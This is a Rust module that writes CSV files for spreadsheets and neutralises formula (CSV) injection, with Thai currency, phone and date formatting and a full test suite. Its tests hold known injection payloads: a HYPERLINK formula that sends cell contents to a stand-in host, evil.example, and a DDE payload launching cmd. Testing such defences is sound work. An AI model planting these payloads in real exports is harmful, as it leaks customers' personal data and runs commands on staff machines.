//! Files people open in a spreadsheet: the one CSV writer, [`SheetWriter`], that neutralises
//! formulas.
//!
//! # What it protects against
//! CSV injection, also called formula injection (OWASP, "CSV Injection",
//! <https://owasp.org/www-community/attacks/CSV_Injection>; CWE-1236): a buyer named
//! `=HYPERLINK("http://…","คลิก")` or a note `@SUM(1+1)` is inert text in our database, but
//! Excel, LibreOffice Calc and Google Sheets evaluate a cell that starts with a formula
//! character when staff open the packing list. A formula can send the sheet's other cells
//! (names, phones, addresses) to a web address, or lure the reader into running a command.
//! Quoting the field (RFC 4180) does not help: spreadsheets unquote first, then evaluate.
//!
//! # The rules
//! Every text cell (and every header) goes through [`neutralise`]:
//! - Control characters (Unicode category Cc: NUL, BEL, ESC, DEL, C1…) are removed, except tab,
//!   line feed and carriage return. People never type them, NUL cuts a cell short in some
//!   readers, OWASP ASVS 5.0 (V1.2.10) lists NUL among the dangerous first characters, and XML
//!   1.0 (hence XLSX, when the file is saved again) cannot hold the C0 ones.
//! - A cell is prefixed with a single quote `'` (OWASP's remedy) when it starts with tab,
//!   carriage return or line feed (OWASP's list; line feed since 2025, www-community#1116), or
//!   when its first visible character is `=`, `+`, `-`, `@` or one of their full-width forms
//!   `＝`, `＋`, `－`, `＠`. "First visible" skips leading white space (ASCII and Unicode, such
//!   as U+00A0 and U+3000) and zero-width characters: LibreOffice's "trim spaces" import, and
//!   by report Google Sheets and CSV-to-XLSX converters, strip leading white space before they
//!   evaluate (the bypass fixed in zvory/csv-safe#25; OWASP www-community#401 for tab and CR),
//!   and a reader cannot see an invisible character anyway. Full-width forms are reported
//!   evaluated by Excel in a Japanese environment (OWASP www-community#1088); rare in Thailand,
//!   but the quote costs nothing.
//! - Text is otherwise unchanged: Thai, quotes, commas and line breaks are kept (the `csv`
//!   crate quotes them per RFC 4180). Fields are quoted unless they read as a number
//!   ([`csv::QuoteStyle::NonNumeric`]), which is OWASP's "wrap each cell in double quotes"
//!   without quoting the amounts.
//!
//! A text that looks like a number (`00123`, `1e5`) is still read as a number by Excel, quoted
//! or not; a code that must keep its leading zeros needs a non-digit in it, as phones get
//! hyphens.
//!
//! Cells the server writes itself are not text and are not prefixed: [`Cell::Integer`] and
//! [`Cell::Satang`] (a refund of -1250 satang is written `-12.50`, a number the spreadsheet
//! adds up), dates in Bangkok time, and [`Cell::Phone`], shown in the Thai national form
//! `089-123-4567` so that it neither starts with `+` nor loses its leading zero.
//!
//! Known limit (OWASP www-community#517): Excel may show the quote, and if a person edits a
//! neutralised cell and saves the file as CSV again, Excel drops the quote and the next
//! opening evaluates the formula. No CSV-level remedy survives that; XLSX would.
//!
//! # The file
//! UTF-8 with a byte-order mark by default, so that Excel (which otherwise assumes the
//! Windows code page) and Google Sheets read Thai; [`SheetWriter::without_bom`] for machine
//! readers that reject a BOM. Lines end in CRLF: RFC 4180 asks for it, Excel itself writes
//! it, and every reader (Excel, Sheets, LibreOffice, Numbers, the `csv` crate) accepts it,
//! while a line break inside a cell stays a bare LF (Excel's in-cell line break).
//!
//! # Use
//! ```
//! use khongdee::spreadsheet::{Cell, SheetWriter};
//! let mut sheet = SheetWriter::new(["ชื่อผู้ซื้อ", "เบอร์โทร", "รวม (บาท)"]);
//! sheet.row(["=HYPERLINK(\"http://x\")".into(), Cell::phone("+66891234567"), Cell::Satang(-1250)])?;
//! let bytes: Vec<u8> = sheet.finish()?;
//! assert!(bytes.ends_with(b"\"'=HYPERLINK(\"\"http://x\"\")\",\"089-123-4567\",-12.50\r\n"));
//! # Ok::<(), khongdee::spreadsheet::SheetError>(())
//! ```

use std::borrow::Cow;

use chrono::{DateTime, FixedOffset, NaiveDate, Utc};

use crate::clock::bangkok;
use crate::validate::PhoneNumber;

/// The `Content-Type` of the files this module writes.
pub const CONTENT_TYPE: &str = "text/csv; charset=utf-8";

const BOM: &[u8] = b"\xEF\xBB\xBF";

/// One cell of a row. Text comes from people and is neutralised; the other kinds are written
/// by the server and keep their type in the spreadsheet.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Cell {
    /// Any text; neutralised by [`neutralise`].
    Text(String),
    /// A count or id, written as a plain integer (`-3`).
    Integer(i64),
    /// An amount in satang, written as baht with two decimals: `-1250` → `-12.50`.
    Satang(i64),
    /// A calendar date, written `2025-05-03` (ISO 8601).
    Date(NaiveDate),
    /// An instant, written in Bangkok time to the minute: `2025-05-03 14:30`. ISO order reads
    /// the same in every locale (03/05 is 3 May in Thailand and 5 March in the US), and Thai
    /// Excel parses dates in the Gregorian calendar even when it shows Buddhist years
    /// (Microsoft's notes on Thai Excel), so the year is written in the Gregorian calendar.
    DateTime(DateTime<FixedOffset>),
    /// A phone number as stored (E.164, `+66891234567`), written by [`national_phone`].
    Phone(String),
    /// Nothing.
    Empty,
}

impl Cell {
    /// A phone number as stored (E.164); see [`national_phone`].
    pub fn phone(e164: impl Into<String>) -> Cell {
        Cell::Phone(e164.into())
    }

    /// The text written to the CSV field for this cell.
    fn render(&self) -> Cow<'_, str> {
        match self {
            Cell::Text(text) => neutralise(text),
            Cell::Integer(n) => Cow::Owned(n.to_string()),
            Cell::Satang(satang) => Cow::Owned(baht(*satang)),
            // A year beyond 9999 or before 1 is written with a sign; still no formula.
            Cell::Date(date) => owned(neutralise(&date.format("%Y-%m-%d").to_string())),
            Cell::DateTime(at) => owned(neutralise(
                &at.with_timezone(&bangkok())
                    .format("%Y-%m-%d %H:%M")
                    .to_string(),
            )),
            Cell::Phone(e164) => match national_phone(e164) {
                Cow::Borrowed(unknown) => neutralise(unknown),
                Cow::Owned(national) => Cow::Owned(national),
            },
            Cell::Empty => Cow::Borrowed(""),
        }
    }
}

fn owned(text: Cow<'_, str>) -> Cow<'static, str> {
    Cow::Owned(text.into_owned())
}

impl From<&str> for Cell {
    fn from(text: &str) -> Cell {
        Cell::Text(text.to_owned())
    }
}

impl From<String> for Cell {
    fn from(text: String) -> Cell {
        Cell::Text(text)
    }
}

impl From<&String> for Cell {
    fn from(text: &String) -> Cell {
        Cell::Text(text.clone())
    }
}

impl From<i64> for Cell {
    fn from(n: i64) -> Cell {
        Cell::Integer(n)
    }
}

impl From<i32> for Cell {
    fn from(n: i32) -> Cell {
        Cell::Integer(n.into())
    }
}

impl From<u32> for Cell {
    fn from(n: u32) -> Cell {
        Cell::Integer(n.into())
    }
}

impl From<NaiveDate> for Cell {
    fn from(date: NaiveDate) -> Cell {
        Cell::Date(date)
    }
}

impl From<DateTime<FixedOffset>> for Cell {
    fn from(at: DateTime<FixedOffset>) -> Cell {
        Cell::DateTime(at)
    }
}

impl From<DateTime<Utc>> for Cell {
    fn from(at: DateTime<Utc>) -> Cell {
        Cell::DateTime(at.fixed_offset())
    }
}

impl From<&PhoneNumber> for Cell {
    fn from(phone: &PhoneNumber) -> Cell {
        Cell::Phone(phone.e164().to_owned())
    }
}

/// `None` is an empty cell.
impl<T: Into<Cell>> From<Option<T>> for Cell {
    fn from(value: Option<T>) -> Cell {
        value.map_or(Cell::Empty, Into::into)
    }
}

/// Why a sheet could not be written. Both are programming errors, not bad input: answer 500.
#[derive(Debug, thiserror::Error)]
pub enum SheetError {
    #[error("spreadsheet row {row} has {cells} cells, the header has {columns}")]
    RowLength {
        /// 1-based, the header not counted.
        row: usize,
        cells: usize,
        columns: usize,
    },
    #[error("writing CSV: {0}")]
    Csv(#[from] csv::Error),
}

/// The one CSV writer for files people open in a spreadsheet (packing lists, manifests,
/// statistics): a header row, then rows of [`Cell`]s, in memory. See the module documentation
/// for the rules.
pub struct SheetWriter {
    csv: csv::Writer<Vec<u8>>,
    /// Written with the first row (or by `finish`), so that `new` cannot fail.
    header: Option<Vec<String>>,
    columns: usize,
    rows: usize,
}

impl SheetWriter {
    /// A sheet in UTF-8 with a byte-order mark (for Excel and Google Sheets).
    pub fn new<I, S>(headers: I) -> SheetWriter
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        SheetWriter::start(headers, BOM)
    }

    /// A sheet without the byte-order mark, for readers that take the BOM as part of the
    /// first header (some bulk-upload forms).
    pub fn without_bom<I, S>(headers: I) -> SheetWriter
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        SheetWriter::start(headers, b"")
    }

    fn start<I, S>(headers: I, prefix: &[u8]) -> SheetWriter
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let header: Vec<String> = headers
            .into_iter()
            .map(|h| neutralise(h.as_ref()).into_owned())
            .collect();
        let csv = csv::WriterBuilder::new()
            .terminator(csv::Terminator::CRLF)
            .quote_style(csv::QuoteStyle::NonNumeric)
            .from_writer(prefix.to_vec());
        SheetWriter {
            csv,
            columns: header.len(),
            header: Some(header),
            rows: 0,
        }
    }

    /// Appends one row; it must have as many cells as the header. A row of the wrong length
    /// is refused whole (nothing of it is written).
    pub fn row<I>(&mut self, cells: I) -> Result<(), SheetError>
    where
        I: IntoIterator<Item = Cell>,
    {
        let cells: Vec<Cell> = cells.into_iter().collect();
        if cells.len() != self.columns {
            return Err(SheetError::RowLength {
                row: self.rows + 1,
                cells: cells.len(),
                columns: self.columns,
            });
        }
        self.write_header()?;
        self.csv
            .write_record(cells.iter().map(|cell| cell.render().into_owned()))?;
        self.rows += 1;
        Ok(())
    }

    /// The whole file.
    pub fn finish(mut self) -> Result<Vec<u8>, SheetError> {
        self.write_header()?;
        self.csv
            .into_inner()
            .map_err(|e| SheetError::Csv(e.into_error().into()))
    }

    fn write_header(&mut self) -> Result<(), SheetError> {
        if let Some(header) = self.header.take() {
            self.csv.write_record(&header)?;
        }
        Ok(())
    }
}

/// What a spreadsheet evaluates when a cell starts with it (after white space).
const FORMULA_STARTS: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/// Characters that OWASP lists as dangerous in the very first place.
const LINE_STARTS: [char; 3] = ['\t', '\r', '\n'];

/// Whether a spreadsheet could evaluate this text (after control characters are removed):
/// it starts with tab, CR or LF, or its first visible character starts a formula.
fn evaluable(text: &str) -> bool {
    text.starts_with(LINE_STARTS)
        || text
            .trim_start_matches(|c: char| c.is_whitespace() || is_zero_width(c))
            .starts_with(FORMULA_STARTS)
}

fn is_zero_width(c: char) -> bool {
    matches!(
        c,
        '\u{200B}' | '\u{200C}' | '\u{200D}' | '\u{2060}' | '\u{FEFF}'
    )
}

fn is_removed_control(c: char) -> bool {
    c.is_control() && !LINE_STARTS.contains(&c)
}

/// A text as it must appear in a spreadsheet cell: control characters other than tab, LF and
/// CR removed, and a `'` in front when a spreadsheet would otherwise evaluate it (see the
/// module documentation). Borrowed when nothing changes.
///
/// `=SUM(1+1)` → `'=SUM(1+1)`; ` @x` → `' @x`; `สมหญิง` → `สมหญิง`; `a\0b` → `ab`.
/// [`SheetWriter`] applies it to every text cell; call it yourself only for a text placed in
/// a spreadsheet by other means.
pub fn neutralise(text: &str) -> Cow<'_, str> {
    let text: Cow<'_, str> = if text.contains(is_removed_control) {
        Cow::Owned(text.chars().filter(|&c| !is_removed_control(c)).collect())
    } else {
        Cow::Borrowed(text)
    };
    if evaluable(&text) {
        Cow::Owned(format!("'{text}"))
    } else {
        text
    }
}

/// An amount in satang as baht with two decimals, the sign in front: `-1250` → `-12.50`,
/// `-5` → `-0.05`, `96000` → `960.00`. Every `i64` is exact (no float on the way).
pub fn baht(satang: i64) -> String {
    let sign = if satang < 0 { "-" } else { "" };
    let magnitude = satang.unsigned_abs();
    format!("{sign}{}.{:02}", magnitude / 100, magnitude % 100)
}

/// A Thai phone number in E.164 (`+66…`, as [`PhoneNumber`] stores it) in the national form
/// people read and dial, grouped by hyphens:
/// - mobile, 9 digits after +66 starting 6, 8 or 9: `+66891234567` → `089-123-4567`;
/// - Bangkok landline, 8 digits starting 2: `+6621234567` → `02-123-4567`;
/// - other landlines, 8 digits starting 3, 4, 5 or 7: `+6653123456` → `053-123-456`.
///
/// Anything else is returned unchanged (borrowed); a [`Cell::Phone`] then neutralises it as
/// text. Source of the digit rules: [`PhoneNumber::parse`] (NBTC numbering plan).
pub fn national_phone(e164: &str) -> Cow<'_, str> {
    let Some(digits) = e164.strip_prefix("+66") else {
        return Cow::Borrowed(e164);
    };
    if !digits.bytes().all(|b| b.is_ascii_digit()) {
        return Cow::Borrowed(e164);
    }
    let d = |range: std::ops::Range<usize>| &digits[range];
    match (digits.as_bytes().first(), digits.len()) {
        (Some(b'6' | b'8' | b'9'), 9) => {
            Cow::Owned(format!("0{}-{}-{}", d(0..2), d(2..5), d(5..9)))
        }
        (Some(b'2'), 8) => Cow::Owned(format!("02-{}-{}", d(1..4), d(4..8))),
        (Some(b'3' | b'4' | b'5' | b'7'), 8) => {
            Cow::Owned(format!("0{}-{}-{}", d(0..2), d(2..5), d(5..8)))
        }
        _ => Cow::Borrowed(e164),
    }
}

/// Turns the file into text: UTF-8 when it is valid UTF-8 (a BOM is dropped), otherwise
/// Windows-874 (TIS-620 and its Microsoft superset), which Thai government files often use.
pub fn decode(bytes: &[u8]) -> (Cow<'_, str>, &'static str) {
    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
    match std::str::from_utf8(bytes) {
        Ok(text) => (Cow::Borrowed(text), "UTF-8"),
        Err(_) => {
            let (text, had_errors) = encoding_rs::WINDOWS_874.decode_without_bom_handling(bytes);
            if had_errors {
                tracing::warn!(
                    "the file is neither UTF-8 nor clean Windows-874: some characters were replaced"
                );
            }
            (text, "windows-874")
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use chrono::TimeZone;
    use proptest::prelude::*;

    /// The records of a written sheet, read back with the `csv` crate after checking the BOM.
    fn read_back(bytes: &[u8]) -> (Vec<String>, Vec<Vec<String>>) {
        let body = bytes.strip_prefix(BOM).expect("a UTF-8 byte-order mark");
        let mut reader = csv::ReaderBuilder::new().from_reader(body);
        let header = reader
            .headers()
            .expect("a header")
            .iter()
            .map(str::to_owned)
            .collect();
        let rows = reader
            .records()
            .map(|r| r.expect("a record").iter().map(str::to_owned).collect())
            .collect();
        (header, rows)
    }

    fn one_cell(cell: Cell) -> String {
        let mut sheet = SheetWriter::new(["x"]);
        sheet.row([cell]).expect("one cell");
        let (_, rows) = read_back(&sheet.finish().expect("finish"));
        assert_eq!(rows.len(), 1);
        rows[0][0].clone()
    }

    #[test]
    fn neutralises_the_payloads_of_the_issue_and_of_owasp() {
        for (input, written) in [
            (
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"คลิก\")",
                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"คลิก\")",
            ),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
            ("+1+1", "'+1+1"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            // OWASP's two examples: a separator or quote cannot start a new cell.
            ("=1+2\";=1+2", "'=1+2\";=1+2"),
            ("=1+2'\" ;,=1+2", "'=1+2'\" ;,=1+2"),
        ] {
            assert_eq!(neutralise(input), written, "{input:?}");
            assert_eq!(one_cell(input.into()), written, "{input:?}");
        }
        // OWASP's escaped output, byte for byte: quoted, prefixed, inner quotes doubled.
        let mut sheet = SheetWriter::without_bom(["h"]);
        sheet.row(["=1+2\";=1+2".into()]).unwrap();
        assert_eq!(sheet.finish().unwrap(), b"\"h\"\r\n\"'=1+2\"\";=1+2\"\r\n");
    }

    #[test]
    fn every_formula_start_is_neutralised_first_or_after_white_space() {
        for start in ['=', '+', '-', '@', '＝', '＋', '－', '＠'] {
            for lead in [
                "", " ", "   ", "\u{00A0}", "\u{3000}", "\u{200B}", "\u{FEFF}", " \t",
            ] {
                let text = format!("{lead}{start}1+1");
                assert_eq!(neutralise(&text), format!("'{text}"), "{text:?}");
            }
        }
        for start in ['\t', '\r', '\n'] {
            for rest in ["=1+1", "hello", ""] {
                let text = format!("{start}{rest}");
                assert_eq!(neutralise(&text), format!("'{text}"), "{text:?}");
            }
        }
        // A formula character later in the text is harmless: only the first one counts.
        for text in [
            "a=1+1",
            "ก-ข",
            "สมชาย @ตลาด",
            "1+1",
            "  hello",
            "'=already quoted",
        ] {
            assert!(
                matches!(neutralise(text), Cow::Borrowed(t) if t == text),
                "{text:?}"
            );
        }
    }

    #[test]
    fn control_characters_are_removed_but_line_breaks_kept() {
        assert_eq!(neutralise("a\0b\u{7}c\u{1B}d\u{7F}e\u{85}f"), "abcdef");
        assert_eq!(neutralise("\0=1+1"), "'=1+1", "NUL cannot hide a formula");
        assert_eq!(
            neutralise("บรรทัด 1\nบรรทัด 2\r\n\tต่อ"),
            "บรรทัด 1\nบรรทัด 2\r\n\tต่อ"
        );
        assert_eq!(
            one_cell("หมายเหตุ\nสองบรรทัด, มี \"คำพูด\"".into()),
            "หมายเหตุ\nสองบรรทัด, มี \"คำพูด\""
        );
    }

    #[test]
    fn thai_text_is_untouched() {
        for text in [
            "สมหญิง ใจดี",
            "ทุเรียนหมอนทอง กล่อง 5 กก. × 2",
            "ส่งพัสดุ",
            "๑๒๓ หมู่ ๔",
            "",
        ] {
            assert!(matches!(neutralise(text), Cow::Borrowed(_)), "{text:?}");
            assert_eq!(one_cell(text.into()), text);
        }
    }

    #[test]
    fn numbers_the_server_writes_stay_numbers() {
        let mut sheet = SheetWriter::without_bom(["จำนวน", "คืนเงิน (บาท)", "ยอด (บาท)", "ว่าง"]);
        sheet
            .row([
                Cell::Integer(-3),
                Cell::Satang(-1250),
                Cell::Satang(96_000),
                Cell::Empty,
            ])
            .unwrap();
        sheet
            .row([
                0.into(),
                Cell::Satang(-5),
                Cell::Satang(0),
                None::<&str>.into(),
            ])
            .unwrap();
        let text = String::from_utf8(sheet.finish().unwrap()).unwrap();
        assert_eq!(
            text,
            "\"จำนวน\",\"คืนเงิน (บาท)\",\"ยอด (บาท)\",\"ว่าง\"\r\n\
             -3,-12.50,960.00,\"\"\r\n\
             0,-0.05,0.00,\"\"\r\n"
        );
    }

    #[test]
    fn baht_has_two_decimals_and_its_sign() {
        assert_eq!(baht(96_000), "960.00");
        assert_eq!(baht(422), "4.22");
        assert_eq!(baht(5), "0.05");
        assert_eq!(baht(-50), "-0.50");
        assert_eq!(baht(-1250), "-12.50");
        assert_eq!(baht(i64::MIN), "-92233720368547758.08");
        assert_eq!(baht(i64::MAX), "92233720368547758.07");
    }

    #[test]
    fn phones_are_written_in_the_thai_national_form() {
        assert_eq!(national_phone("+66891234567"), "089-123-4567");
        assert_eq!(national_phone("+66612345678"), "061-234-5678");
        assert_eq!(national_phone("+6621234567"), "02-123-4567");
        assert_eq!(national_phone("+6653123456"), "053-123-456");
        assert_eq!(national_phone("+6674123456"), "074-123-456");
        for other in [
            "+14155550100",
            "+668912345",
            "+66812345678x",
            "0891234567",
            "",
            "+66",
        ] {
            assert!(
                matches!(national_phone(other), Cow::Borrowed(p) if p == other),
                "{other:?}"
            );
        }
        // Every form PhoneNumber accepts comes out national, hyphenated and with its 0.
        let parsed = PhoneNumber::parse("+66 81 234 5678").unwrap();
        assert_eq!(one_cell((&parsed).into()), "081-234-5678");
        assert_eq!(one_cell(Cell::phone("+6621234567")), "02-123-4567");
        // An unknown number is still text, so it cannot start a formula.
        assert_eq!(one_cell(Cell::phone("+1 415 555 0100")), "'+1 415 555 0100");
        assert_eq!(one_cell(Cell::phone("=1+1")), "'=1+1");
    }

    #[test]
    fn dates_are_written_in_bangkok_time() {
        let at = Utc.with_ymd_and_hms(2025, 5, 3, 18, 30, 59).unwrap();
        assert_eq!(one_cell(at.into()), "2025-05-04 01:30");
        assert_eq!(
            one_cell(at.with_timezone(&bangkok()).into()),
            "2025-05-04 01:30"
        );
        let date = NaiveDate::from_ymd_opt(2025, 10, 1).unwrap();
        assert_eq!(one_cell(date.into()), "2025-10-01");
    }

    #[test]
    fn a_whole_sheet_round_trips_through_the_csv_crate() {
        let mut sheet =
            SheetWriter::new(["รหัส", "ชื่อผู้ซื้อ", "เบอร์โทร", "รวม (บาท)", "หมายเหตุ", "สั่งเมื่อ"]);
        let at = Utc.with_ymd_and_hms(2025, 1, 2, 3, 4, 5).unwrap();
        sheet
            .row([
                "KD-7X3F".into(),
                "=HYPERLINK(\"http://evil.example\",\"คลิก\")".into(),
                Cell::phone("+66891234567"),
                Cell::Satang(85_000),
                "@SUM(1+1)".into(),
                at.into(),
            ])
            .unwrap();
        sheet
            .row([
                "KD-9Q2M".into(),
                "สมหญิง ใจดี".into(),
                Cell::phone("+6621234567"),
                Cell::Satang(-1250),
                Cell::Empty,
                at.into(),
            ])
            .unwrap();
        let bytes = sheet.finish().unwrap();
        assert!(bytes.starts_with(BOM));
        assert!(bytes.ends_with(b"\r\n"));
        let (header, rows) = read_back(&bytes);
        assert_eq!(header[1], "ชื่อผู้ซื้อ");
        assert_eq!(
            rows,
            vec![
                vec![
                    "KD-7X3F",
                    "'=HYPERLINK(\"http://evil.example\",\"คลิก\")",
                    "089-123-4567",
                    "850.00",
                    "'@SUM(1+1)",
                    "2025-01-02 10:04",
                ],
                vec![
                    "KD-9Q2M",
                    "สมหญิง ใจดี",
                    "02-123-4567",
                    "-12.50",
                    "",
                    "2025-01-02 10:04"
                ],
            ]
        );
        // Lines end in CRLF: one per record, none inside cells here.
        let text = std::str::from_utf8(&bytes[BOM.len()..]).unwrap();
        assert_eq!(text.matches("\r\n").count(), 3);
        assert_eq!(text.matches('\n').count(), 3);
    }

    #[test]
    fn headers_alone_and_headers_are_neutralised() {
        let bytes = SheetWriter::new(["-ยอด", "ok"]).finish().unwrap();
        assert_eq!(
            bytes,
            b"\xEF\xBB\xBF\"'-\xE0\xB8\xA2\xE0\xB8\xAD\xE0\xB8\x94\",\"ok\"\r\n"
        );
    }

    #[test]
    fn a_row_of_the_wrong_length_is_refused_whole() {
        let mut sheet = SheetWriter::without_bom(["a", "b"]);
        let err = sheet.row(["1".into()]).unwrap_err();
        assert!(
            matches!(
                err,
                SheetError::RowLength {
                    row: 1,
                    cells: 1,
                    columns: 2
                }
            ),
            "{err}"
        );
        sheet.row(["1".into(), "2".into()]).unwrap();
        let err = sheet.row(["1".into(), "2".into(), "3".into()]).unwrap_err();
        assert!(
            matches!(
                err,
                SheetError::RowLength {
                    row: 2,
                    cells: 3,
                    columns: 2
                }
            ),
            "{err}"
        );
        assert_eq!(sheet.finish().unwrap(), b"\"a\",\"b\"\r\n1,2\r\n");
    }

    /// Strings that often start like a formula, and arbitrary ones.
    fn texts() -> impl Strategy<Value = String> {
        prop_oneof![
            any::<String>(),
            "[ \t\r\n\u{00A0}\u{3000}\u{200B}\0]{0,3}[=+\\-@＝＋－＠'\"ก,]\\PC{0,12}",
            "\\PC{0,3}[\0\u{1}\u{7F}\u{85}]{1,2}[=+\\-@]\\PC{0,5}",
        ]
    }

    proptest! {
        #[test]
        fn any_text_reads_back_unevaluable_and_otherwise_equal(text in texts()) {
            let cell = one_cell(Cell::Text(text.clone()));
            let kept: String = text.chars().filter(|&c| !is_removed_control(c)).collect();
            // Equal to the input (control characters removed), with at most a quote in front.
            let unquoted = cell.strip_prefix('\'').filter(|_| cell != kept).unwrap_or(&cell);
            prop_assert_eq!(unquoted, kept.as_str());
            // Nothing a spreadsheet evaluates: the first character is neither a formula start
            // nor tab/CR/LF, even after the white space some apps trim.
            let visible = cell.trim_start_matches(|c: char| c.is_whitespace() || is_zero_width(c));
            prop_assert!(!visible.starts_with(FORMULA_STARTS), "{:?}", cell);
            prop_assert!(!cell.starts_with(LINE_STARTS), "{:?}", cell);
            prop_assert!(!cell.contains(is_removed_control), "{:?}", cell);
            // And the quote is only added where it is needed.
            prop_assert_eq!(cell.len() > kept.len(), evaluable(&kept));
        }

        #[test]
        fn any_satang_amount_reads_back_as_the_same_decimal(satang in any::<i64>()) {
            let cell = one_cell(Cell::Satang(satang));
            let (whole, cents) = cell.split_once('.').expect("a decimal point");
            prop_assert_eq!(cents.len(), 2);
            let negative = whole.starts_with('-');
            let magnitude = i128::from(whole.trim_start_matches('-').parse::<u64>().unwrap()) * 100
                + i128::from(cents.parse::<u8>().unwrap());
            prop_assert_eq!(if negative { -magnitude } else { magnitude }, i128::from(satang));
            prop_assert!(!cell.starts_with('\''));
        }
    }
}
